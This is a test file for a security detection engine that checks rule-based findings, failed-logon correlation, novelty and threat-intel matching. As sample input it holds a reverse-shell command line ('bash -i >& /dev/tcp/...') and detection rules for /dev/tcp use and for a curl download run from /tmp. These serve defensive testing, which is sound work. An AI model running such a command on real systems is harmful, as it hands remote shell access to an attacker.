import assert from 'node:assert/strict'
import { test } from 'node:test'
import { type Event, eventTypes } from '@rampart/event'
import { createIndicatorSet, parseIndicators } from '@rampart/intel'
import fc from 'fast-check'
import { createDetector } from './create-detector.ts'
import type { ModelText } from './detector.ts'
import { eventOf, logon, processRule, ruleText, started } from './testing/fixtures.ts'

const asModels = (...texts: string[]): ModelText[] =>
  texts.map((text, index) => ({ path: `models/t/m${index}/rule.yml`, text }))

function detectorOf(...texts: string[]) {
  const { detector, issues } = createDetector({ models: asModels(...texts) })
  assert.deepEqual(issues, [])
  return detector
}

const guessing = ruleText(
  `correlation: {type: event_count, rules: [failed], group-by: [asset.id, source.address], timespan: 10m, condition: {gte: 3}}
`,
  '  kind: correlation\n  entity: source.address\n  requires: [logon.attempted]\n',
  {
    before: `title: failed
name: failed
logsource: {category: authentication, product: linux}
detection: {failed: {outcome: failure}, condition: failed}
---
`,
  },
)

test('a finding says what, where and why', () => {
  const detector = detectorOf(processRule('/dev/tcp'))
  const event = started('bash -i >& /dev/tcp/203.0.113.9/4444')
  const [finding, ...more] = detector.detect(event)
  assert.equal(more.length, 0)
  assert.ok(finding)
  assert.equal(finding.id, `${finding.modelId}/${event.id}`)
  assert.deepEqual(finding.entity, { kind: 'process', value: '/usr/bin/bash' })
  assert.deepEqual(finding.matched, [{ field: 'CommandLine', value: 'bash -i >& /dev/tcp/203.0.113.9/4444' }])
  assert.equal(finding.evidence, event)
  assert.deepEqual(finding.eventIds, [event.id])
  assert.equal(detector.detect(started('ls')).length, 0)
})

test('the aggregation key joins asset, model and entity, and nothing else', () => {
  const detector = detectorOf(processRule('evil'), processRule('evil'))
  const key = (event: Event) => detector.detect(event).map((finding) => finding.aggregationKey)
  const [first, second] = key(started('evil 1'))
  assert.notEqual(first, second)
  assert.equal(key(started('evil 2'))[0], first)
  assert.notEqual(key(started('evil', { asset: { id: 'a2', name: 'web-1', kind: 'host' } }))[0], first)
  assert.notEqual(
    key(started('evil', { process: { pid: 1, entityId: 'x', executable: '/bin/sh', commandLine: 'evil' } }))[0],
    first,
  )
})

test('an event without the entity field is about its asset', () => {
  const detector = detectorOf(processRule('evil'))
  const [finding] = detector.detect(started('', { process: { pid: 1, entityId: 'x', commandLine: 'evil' } }))
  assert.deepEqual(finding?.entity, { kind: 'asset', value: 'web-1' })
})

test('one bad model is listed and stops no other; a repeated id is refused', () => {
  const good = processRule('evil')
  const { detector, issues } = createDetector({
    models: asModels(good, 'title: [', good, processRule('x').replace('condition: selection', 'condition: nobody')),
  })
  assert.deepEqual(
    issues.map((issue) => issue.code),
    ['model.invalid-yaml', 'model.duplicate-id', 'sigma.unknown-selection'],
  )
  assert.equal(detector.detect(started('evil')).length, 1)
  assert.equal(detector.models.length, 1)
})

test('a window fires at its count, for its group, with the ids of its events', () => {
  const detector = detectorOf(guessing)
  const at = 1_700_000_000_000
  const events = [0, 1, 2].map((minute) => logon('failure', '203.0.113.1', at + minute * 60_000))
  assert.deepEqual(detector.detect(logon('failure', '203.0.113.2', at)), [])
  const findings = events.flatMap((event) => detector.detect(event))
  assert.equal(findings.length, 1)
  assert.deepEqual(
    findings[0]?.eventIds,
    events.map(({ id }) => id),
  )
  assert.deepEqual(findings[0]?.entity, { kind: 'address', value: '203.0.113.1' })
  assert.equal(findings[0]?.sourceAddress, '203.0.113.1')
})

test('the entity of a correlation may be an alias of its group, whichever event came last', () => {
  const text = ruleText(
    `correlation: {type: temporal, rules: [wrote, ran], group-by: [asset.id, program], aliases: {program: {wrote: file.path, ran: process.executable}}, timespan: 10m}
`,
    '  kind: correlation\n  entity: {kind: file, field: program}\n  requires: [process.started, file.written]\n',
    {
      before: `title: wrote
name: wrote
logsource: {product: linux, category: file_event}
detection: {s: {Image|endswith: /curl}, condition: s}
---
title: ran
name: ran
logsource: {product: linux, category: process_creation}
detection: {s: {Image|startswith: /tmp/}, condition: s}
---
`,
    },
  )
  const wrote = eventOf({
    type: 'file.written',
    file: { path: '/tmp/x' },
    process: { pid: 1, entityId: 'a', executable: '/usr/bin/curl' },
  })
  const ran = eventOf({ type: 'process.started', process: { pid: 2, entityId: 'b', executable: '/tmp/x' } })
  for (const events of [
    [wrote, ran],
    [ran, wrote],
  ]) {
    const detector = detectorOf(text)
    const findings = events.flatMap((event) => detector.detect(event))
    assert.deepEqual(
      findings.map(({ entity }) => entity),
      [{ kind: 'file', value: '/tmp/x' }],
    )
  }
})

test('an event that stands for several counts as often', () => {
  const detector = detectorOf(guessing)
  assert.equal(detector.detect(logon('failure', '203.0.113.1', 1_700_000_000_000, { count: 3 })).length, 1)
})

test('an asset that delivers an hour late is judged by its own time', () => {
  const detector = detectorOf(guessing)
  const at = 1_700_000_000_000
  const late = { asset: { id: 'a2', name: 'web-2', kind: 'host' } }
  detector.detect(logon('success', '192.0.2.1', at))
  const findings = [1, 2, 3].flatMap((minute) => [
    ...detector.detect(logon('success', '192.0.2.1', at + minute)),
    ...detector.detect(logon('failure', '203.0.113.1', at - 3_600_000 + minute * 60_000, late)),
  ])
  assert.deepEqual(
    findings.map(({ assetId }) => assetId),
    ['a2'],
  )
})

test('saved and restored in the middle of a window, nothing is lost or repeated', () => {
  const at = 1_700_000_000_000
  const events = [0, 1, 2, 3, 4].map((minute) => logon('failure', '203.0.113.1', at + minute * 60_000))
  const through = detectorOf(guessing)
  const expected = events.map((event) => through.detect(event).map(({ id }) => id))
  for (let cut = 0; cut <= events.length; cut++) {
    const before = detectorOf(guessing.replace(/Test model \d+/, 'Same'))
    const first = events.slice(0, cut).map((event) => before.detect(event).map(({ id }) => id))
    const after = detectorOf(guessing.replace(/Test model \d+/, 'Same'))
    after.restoreState(JSON.parse(JSON.stringify(before.saveState())))
    const second = events.slice(cut).map((event) => after.detect(event).map(({ id }) => id))
    assert.deepEqual([...first, ...second], expected, `cut after ${cut}`)
  }
})

const newcomer = ruleText(
  `logsource: {category: authentication, product: linux}
detection: {ok: {outcome: success}, condition: ok}
`,
  '  kind: novelty\n  entity: user.name\n  novelty: {field: source.address, per: [user.name], learnEvents: 2, learnFor: 1h}\n',
)

test('a value is new once its group has learned, and only once', () => {
  const detector = detectorOf(newcomer)
  const at = 1_700_000_000_000
  const hours = (count: number) => at + count * 3_600_000
  const fired = [
    logon('success', '192.0.2.1', hours(0)),
    logon('failure', '203.0.113.9', hours(0.1)),
    logon('success', '192.0.2.2', hours(0.2)),
    logon('success', '192.0.2.3', hours(0.5)),
    logon('success', '192.0.2.1', hours(2)),
    logon('success', '203.0.113.9', hours(3)),
    logon('success', '203.0.113.9', hours(4)),
    logon('success', '203.0.113.9', hours(5), { user: { name: 'alice' } }),
  ].map((event) => detector.detect(event).length)
  assert.deepEqual(fired, [0, 0, 0, 0, 0, 1, 0, 0])
})

test('an indicator makes a finding that names its list', () => {
  const { indicators } = parseIndicators('203.0.113.66 example command server', { name: 'lists' })
  const text = ruleText(
    'logsource: {product: linux, category: network_connection}\n',
    '  kind: intel\n  entity: destination.address\n  intel: {indicator: address, fields: [DestinationIp]}\n',
  )
  const { detector, issues } = createDetector({ models: asModels(text), indicators: createIndicatorSet(indicators) })
  assert.deepEqual(issues, [])
  const connect = (address: string) =>
    eventOf({ type: 'network.connected', transport: 'tcp', source: { address: '192.0.2.1' }, destination: { address } })
  assert.deepEqual(detector.detect(connect('203.0.113.66'))[0]?.matched, [
    { field: 'destination.address', value: '203.0.113.66' },
    { field: 'indicator', value: '203.0.113.66' },
    { field: 'list', value: 'lists' },
    { field: 'threat', value: 'example command server' },
  ])
  assert.equal(detector.detect(connect('203.0.113.67')).length, 0)
  detector.useIndicators(createIndicatorSet([]))
  assert.equal(detector.detect(connect('203.0.113.66')).length, 0)
})

test('a plain Sigma rule becomes a model of its own', () => {
  const text = `title: Plain
id: 11111111-1111-4111-8111-111111111111
status: test
level: low
tags: [attack.persistence, attack.t1053.003]
logsource: {product: linux, category: process_creation}
detection: {s: {Image|endswith: /bash}, condition: s}
`
  const { detector, issues } = createDetector({ models: [], own: [{ path: 'own/plain.yml', text }] })
  assert.deepEqual(issues, [])
  const [finding] = detector.detect(started('x'))
  assert.deepEqual(
    [finding?.title, finding?.level, finding?.type, finding?.stages],
    ['Plain', 'Notice', 'Suspicious Process', ['Permission Maintenance']],
  )
})

test('no event makes detection throw, and equal input gives equal findings', () => {
  const texts = [processRule('a'), guessing, newcomer]
  const one = detectorOf(...texts)
  const other = detectorOf(...texts)
  const value = fc.oneof(fc.string({ unit: 'binary' }), fc.integer(), fc.constant(null), fc.object({ maxDepth: 2 }))
  const event = fc.record({
    type: fc.constantFrom(...eventTypes),
    id: fc.string({ minLength: 1 }),
    at: fc.double({ noNaN: true, min: 0, max: 2e12 }),
    asset: fc.record({ id: fc.constantFrom('a1', 'a2'), name: fc.string(), kind: fc.constant('host') }),
    process: value,
    source: value,
    user: value,
    outcome: fc.constantFrom('failure', 'success'),
    log: fc.record({ service: fc.string() }),
    provider: fc.constant('aws'),
    fields: fc.dictionary(fc.string(), value),
    message: fc.string(),
    count: fc.option(fc.integer({ min: 1, max: 5 }), { nil: undefined }),
  })
  fc.assert(
    fc.property(event, (generated) => {
      const input = generated as unknown as Event
      assert.deepEqual(one.detect(input), other.detect(input))
    }),
    { numRuns: 1000 },
  )
  assert.equal(one.stats.failures, 0, one.stats.lastFailure)
})
